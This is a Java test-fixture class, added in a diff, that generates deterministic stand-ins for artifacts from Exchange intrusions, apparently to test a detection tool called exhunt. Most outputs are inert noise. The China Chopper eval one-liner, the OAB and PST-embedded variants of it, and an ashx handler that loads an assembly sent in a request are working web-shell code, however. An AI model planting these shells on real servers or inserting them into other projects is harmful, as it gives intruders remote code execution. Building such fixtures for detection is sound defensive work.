@@ -1,0 +1,160 @@
+package org.exhunt.testkit.image;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
+import java.util.SplittableRandom;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+
+/**
+ * The contents of files intruders left on Exchange servers, written for exhunt from the public descriptions of
+ * the attacks: small, inert stand-ins with the shape the write-ups show (none is a real sample). Random parts
+ * come from the given seed, so the same call gives the same bytes.
+ */
+public final class Artifacts {
+
+    private Artifacts() {}
+
+    /**
+     * The China Chopper one-liner of the HAFNIUM intrusions (CISA AA21-062A; Microsoft's HAFNIUM post): JScript
+     * that evaluates a request parameter.
+     */
+    public static byte[] chopper(String parameter) {
+        return ("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"" + parameter + "\"],\"unsafe\");%>")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /** The script ProxyLogon puts in the OAB virtual directory's ExternalUrl (CVE-2021-27065). */
+    public static String oabScript(String parameter) {
+        return "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\""
+                + parameter + "\"],\"unsafe\");}</script>";
+    }
+
+    /**
+     * The file ProxyLogon's ResetOABVirtualDirectory writes (CVE-2021-27065): the OAB virtual directory's
+     * settings as Exchange exports them, its ExternalUrl holding the Chopper script, so IIS runs the file as a page.
+     */
+    public static byte[] oabVirtualDirectoryShell(String host, String build, String parameter) {
+        String fqdn = host + ".contoso.local";
+        String[] b = build.split("\\.");
+        String[][] settings = {
+            {"Name", "OAB (Default Web Site)"},
+            {"PollInterval", "480"},
+            {"OfflineAddressBooks", ""},
+            {"RequireSSL", "False"},
+            {"BasicAuthentication", "False"},
+            {"WindowsAuthentication", "True"},
+            {"OAuthAuthentication", "True"},
+            {"MetabasePath", "IIS://" + fqdn + "/W3SVC/1/ROOT/OAB"},
+            {"Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB"},
+            {"ExtendedProtectionTokenChecking", "None"},
+            {"ExtendedProtectionFlags", ""},
+            {"ExtendedProtectionSPNList", ""},
+            {"AdminDisplayVersion", "Version " + b[0] + "." + b[1] + " (Build " + b[2] + "." + b[3] + ")"},
+            {"Server", host},
+            {"InternalUrl", "https://" + fqdn.toLowerCase(java.util.Locale.ROOT) + "/OAB"},
+            {"InternalAuthenticationMethods", "{WindowsIntegrated, OAuth}"},
+            {"ExternalUrl", oabScript(parameter)},
+            {"ExternalAuthenticationMethods", "{WindowsIntegrated, OAuth}"},
+            {"AdminDisplayName", ""},
+            {"ExchangeVersion", "0.10 (14.0.100.0)"},
+            {"DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=" + host
+                    + ",CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,"
+                    + "CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local"},
+            {"Identity", host + "\\OAB (Default Web Site)"},
+            {"Guid", "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3"},
+            {"ObjectCategory", "contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"},
+            {"ObjectClass", "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}"},
+            {"OriginatingServer", "DC01.contoso.local"},
+            {"IsValid", "True"},
+            {"ObjectState", "Unchanged"},
+        };
+        StringBuilder s = new StringBuilder("\r\n\r\n");
+        for (String[] kv : settings) s.append(String.format("%-31s : %s\r\n", kv[0], kv[1]));
+        return s.append("\r\n\r\n").toString().getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /**
+     * A ProxyShell web shell (CVE-2021-31207): a mailbox exported as a PST file under a web folder. The file starts
+     * with the PST signature {@code !BDN}; the attacker encoded the attachment so that PST's own byte permutation
+     * leaves the page in plain text inside the otherwise scrambled blocks, and ASP.NET runs it (Orange Tsai,
+     * Black Hat USA 2021; the ZDI write-up).
+     */
+    public static byte[] pstShell(long seed, String parameter) {
+        SplittableRandom r = new SplittableRandom(seed);
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        byte[] header = new byte[512];
+        header[0] = '!';
+        header[1] = 'B';
+        header[2] = 'D';
+        header[3] = 'N';
+        header[8] = 'S';   // wMagicClient "SM"
+        header[9] = 'M';
+        header[10] = 23;   // wVer: Unicode PST
+        header[12] = 19;   // wVerClient
+        header[14] = 1;    // bPlatformCreate / bPlatformAccess
+        header[15] = 1;
+        for (int i = 4; i < 8; i++) header[i] = (byte) r.nextInt(256);   // dwCRCPartial
+        out.writeBytes(header);
+        out.writeBytes(noise(r, 6144));
+        out.writeBytes(("<%@ Page Language=\"JScript\" Debug=true%><%eval(Request.Item[\"" + parameter
+                + "\"],\"unsafe\");%>").getBytes(StandardCharsets.US_ASCII));
+        out.writeBytes(noise(r, 9728));
+        return out.toByteArray();
+    }
+
+    /**
+     * An ASP.NET handler that loads an assembly sent in the request and runs it, the loader style of the shells
+     * dropped after ProxyNotShell (GTSC, 2022-09: {@code pxh4HG1v.ashx} in {@code owa\auth}).
+     */
+    public static byte[] ashxLoader(String parameter) {
+        return ("<%@ WebHandler Language=\"C#\" Class=\"Handler\" %>\r\n"
+                + "using System;\r\nusing System.Web;\r\nusing System.Reflection;\r\n\r\n"
+                + "public class Handler : IHttpHandler {\r\n"
+                + "    public void ProcessRequest(HttpContext context) {\r\n"
+                + "        byte[] code = Convert.FromBase64String(context.Request.Form[\"" + parameter + "\"]);\r\n"
+                + "        Assembly.Load(code).CreateInstance(\"U\").Equals(context);\r\n"
+                + "    }\r\n"
+                + "    public bool IsReusable { get { return false; } }\r\n"
+                + "}\r\n").getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /**
+     * The start of an LSASS minidump as comsvcs.dll's MiniDump writes it: the {@code MDMP} signature and version,
+     * then scrambled stream data standing in for the process memory (a real dump is tens of megabytes).
+     */
+    public static byte[] minidump(long seed) {
+        SplittableRandom r = new SplittableRandom(seed);
+        byte[] head = {'M', 'D', 'M', 'P', (byte) 0x93, (byte) 0xA7, 0, 0, 17, 0, 0, 0, 32, 0, 0, 0};
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(head);
+        out.writeBytes(noise(r, 8176));
+        return out.toByteArray();
+    }
+
+    /**
+     * An archive staged for theft in ProgramData (HAFNIUM compressed stolen data with 7-Zip into files such as
+     * {@code C:\ProgramData\it.zip}): a zip of {@code entry} holding scrambled bytes, with fixed entry times.
+     */
+    public static byte[] stagedArchive(long seed, String entry) {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+            ZipEntry e = new ZipEntry(entry);
+            e.setTimeLocal(java.time.LocalDateTime.of(2021, 3, 3, 6, 14, 40));   // not the clock: the same bytes everywhere
+            zip.putNextEntry(e);
+            zip.write(noise(new SplittableRandom(seed), 6000));
+            zip.closeEntry();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);   // memory does not fail
+        }
+        return bytes.toByteArray();
+    }
+
+    private static byte[] noise(SplittableRandom r, int n) {
+        byte[] b = new byte[n];
+        for (int i = 0; i < n; i++) b[i] = (byte) r.nextInt(256);
+        return b;
+    }
+}
